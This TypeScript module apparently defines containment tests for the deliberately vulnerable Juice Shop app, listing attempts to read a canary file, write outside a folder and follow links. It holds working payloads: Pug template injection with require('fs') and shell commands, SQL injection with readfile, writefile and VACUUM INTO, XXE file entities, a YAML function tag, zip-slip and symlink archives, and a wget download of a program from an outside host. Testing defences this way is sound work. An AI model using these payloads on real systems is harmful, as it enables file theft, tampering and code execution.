import { zipSync } from 'fflate';
import { type Attack, type Attempt, attemptsTo } from './attempt.ts';
import { inNode, inSandbox, servedPaths, up } from './payloads.ts';

/** Reading and writing files of the machine, and links. */

const reading = attemptsTo('read a file', [
  {
    hole: 'order expression',
    title: "`require('fs')` and an error with the content",
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ orderLines, prey }) => [await orderLines(`throw Error(${inNode.read(prey.canary)})`)],
  },
  {
    hole: 'order expression',
    title: '`process.getBuiltinModule`',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ orderLines, prey }) => [
      await orderLines(`throw Error(process.getBuiltinModule('fs').readFileSync('${prey.canary}', 'utf8'))`),
    ],
  },
  {
    hole: 'user name (Pug)',
    title: 'an expression that reads through `process.mainModule.require`',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ userName, prey }) => [
      await userName(`global.process.mainModule.require('fs').readFileSync('${prey.canary}', 'utf8')`),
    ],
  },
  {
    hole: 'user name (Pug)',
    title: 'an expression that runs `cat`',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ userName, prey }) => [await userName(inNode.shell(`cat ${prey.canary}`))],
  },
  {
    hole: 'user name (Pug)',
    title: 'code in the template, after a line break',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ profileOf, prey }) => [await profileOf(`a\np= ${inNode.read(prey.canary)}`)],
  },
  {
    hole: 'user name (Pug)',
    title: 'an include',
    wall: 'decoy',
    wall3: true,
    logged: 'code',
    attack: async ({ profileOf, prey }) => [await profileOf(`a\n  include ${up}${prey.canary}`)],
  },
  {
    hole: 'chatbot command',
    title: 'the constructor of the global object',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ chat, prey }) => [await chat('Eve', inSandbox.answerWith(inSandbox.read(prey.canary)))],
  },
  ...['', '/', '//', './'].map(
    (start): Attack => ({
      hole: 'erasure layout (Handlebars)',
      title: `a layout ${JSON.stringify(`${start}../../...`)}`,
      wall: 'decoy',
      wall3: true,
      logged: 'files',
      attack: async ({ layout, prey }) => [await layout(`${start}${up}${prey.canary}`)],
    }),
  ),
  {
    hole: 'XML upload',
    title: 'an external entity `file:///...`',
    wall: 'decoy',
    wall3: true,
    logged: 'document',
    attack: async ({ entity, prey }) => [await entity(`file://${prey.canary}`)],
  },
  {
    hole: 'XML upload',
    title: 'an external entity that is a bare path',
    wall: 'decoy',
    wall3: true,
    logged: 'document',
    attack: async ({ entity, prey }) => [await entity(`${up}${prey.canary}`)],
  },
  {
    hole: 'XML upload',
    title: 'an external entity below `/proc/self/root`',
    wall: 'decoy',
    wall3: true,
    logged: 'document',
    attack: async ({ entity, prey }) => [await entity(`file:///proc/self/root${prey.canary}`)],
  },
  {
    hole: 'YAML upload',
    title: 'a function type',
    wall: 'decoy',
    wall3: true,
    logged: 'document',
    attack: async ({ yaml, prey }) => [
      await yaml(`x: !!js/function 'function () { return ${inNode.read(prey.canary, '"')} }'`),
    ],
  },
  ...servedPaths.map(
    ([title, pathTo]): Attack => ({
      hole: 'served folder',
      title,
      wall: 'decoy',
      wall3: true,
      logged: 'paths',
      attack: async ({ get, prey }) => [await get(pathTo(prey.canary))],
    }),
  ),
  {
    hole: 'SQL injection',
    title: '`readfile` in the product search',
    wall: 'SQL gate',
    wall3: true,
    logged: 'database',
    attack: async ({ search, prey }) => [
      await search(`x')) UNION SELECT readfile('${prey.canary}'),2,3,4,5,6,7,8,9--`),
    ],
  },
]);

const writing = attemptsTo('write a file', [
  {
    hole: '$where condition',
    title: "`require('fs')` in an order number",
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ trackOrder, prey }) => [await trackOrder(`'||require('fs').mkdirSync('${prey.outside}/w')||'`)],
  },
  {
    hole: 'order expression',
    title: "`require('fs')`",
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ orderLines, prey }) => [await orderLines(inNode.write(`${prey.outside}/w`))],
  },
  {
    hole: 'user name (Pug)',
    title: 'an expression that writes',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ userName, prey }) => [await userName(inNode.write(`${prey.outside}/w`))],
  },
  {
    hole: 'user name (Pug)',
    title: 'an expression that downloads a program with `wget -O`',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ userName, prey }) => [
      await userName(inNode.shell(`wget -q -O ${prey.outside}/w https://github.com/juice-shop/juicy-malware`)),
    ],
  },
  {
    hole: 'chatbot command',
    title: 'a name that is code',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ chat, prey }) => [
      await chat(`x"); ${inSandbox.write(`${prey.outside}/w`)}; users.addUser("1", "y`, 'hi'),
    ],
  },
  ...(
    [
      ['an entry that climbs (`../../...`)', (path: string) => up + path.slice(1)],
      ['an entry with an absolute path', (path: string) => path],
      ['an entry that climbs out of an existing folder', (path: string) => `../../ftp/${up}${path.slice(1)}`],
      ['an entry with backslashes', (path: string) => (up + path.slice(1)).replaceAll('/', '\\')],
    ] as const
  ).map(
    ([title, nameOf]): Attack => ({
      hole: 'archive upload',
      title,
      wall: 'decoy',
      wall3: true,
      logged: 'archive',
      attack: async ({ archive, prey }) => [
        await archive(Buffer.from(zipSync({ [nameOf(`${prey.outside}/w`)]: Buffer.from('slipped') }))),
      ],
    }),
  ),
  {
    hole: 'SQL injection',
    title: '`writefile` in a login',
    wall: 'SQL gate',
    wall3: true,
    logged: 'database',
    attack: async ({ loginAs, prey }) => [await loginAs(`' OR writefile('${prey.outside}/w', 'x')--`)],
  },
  {
    hole: 'SQL injection',
    title: '`VACUUM INTO` in a login',
    wall: 'SQL gate',
    wall3: true,
    logged: 'database',
    attack: async ({ loginAs, prey }) => [await loginAs(`'; VACUUM INTO '${prey.outside}/w'--`)],
  },
]);

/** Builds an archive entry that is a symbolic link, as Unix writes it. */
const link = (target: string) => [Buffer.from(target), { os: 3, attrs: (0o120777 << 16) >>> 0 }] as const;

const links = attemptsTo('use a link', [
  {
    hole: 'archive upload',
    title: 'a link to a folder, and an entry below it',
    wall: 'decoy',
    wall3: true,
    logged: 'archive',
    attack: async ({ archive, prey }) => {
      // One link per archive: unpacking them in turn makes the second follow the first.
      const name = `l${Date.now()}`;
      return [
        await archive(Buffer.from(zipSync({ [`../../${name}`]: [...link(prey.outside)] }))),
        await archive(Buffer.from(zipSync({ [`../../${name}/w`]: Buffer.from('slipped') }))),
      ];
    },
  },
  {
    hole: 'archive upload',
    title: 'a link to a file, read as a layout',
    wall: 'decoy',
    wall3: true,
    logged: 'archive',
    attack: async ({ archive, layout, prey }) => {
      const name = `l${Date.now()}.txt`;
      return [
        await archive(Buffer.from(zipSync({ [`../../${name}`]: [...link(prey.canary)] }))),
        await layout(`../${name}`),
      ];
    },
  },
  {
    hole: 'user name (Pug)',
    title: '`symlinkSync`, and reading through the link',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ userName, prey }) => [
      await userName(
        `(() => { const fs = require('fs'); const l = require('os').tmpdir() + '/l' + Date.now(); fs.symlinkSync('${prey.canary}', l); const t = fs.readFileSync(l, 'utf8'); fs.unlinkSync(l); return t })()`,
      ),
    ],
  },
  {
    hole: 'user name (Pug)',
    title: '`ln` and `cat`',
    wall: 'interpreter',
    wall3: true,
    logged: 'code',
    attack: async ({ userName, prey }) => [
      await userName(inNode.shell(`cd /tmp; ln ${prey.canary} l$$; cat l$$; rm -f l$$`)),
    ],
  },
]);

export const fileAttempts: readonly Attempt[] = [...reading, ...writing, ...links];
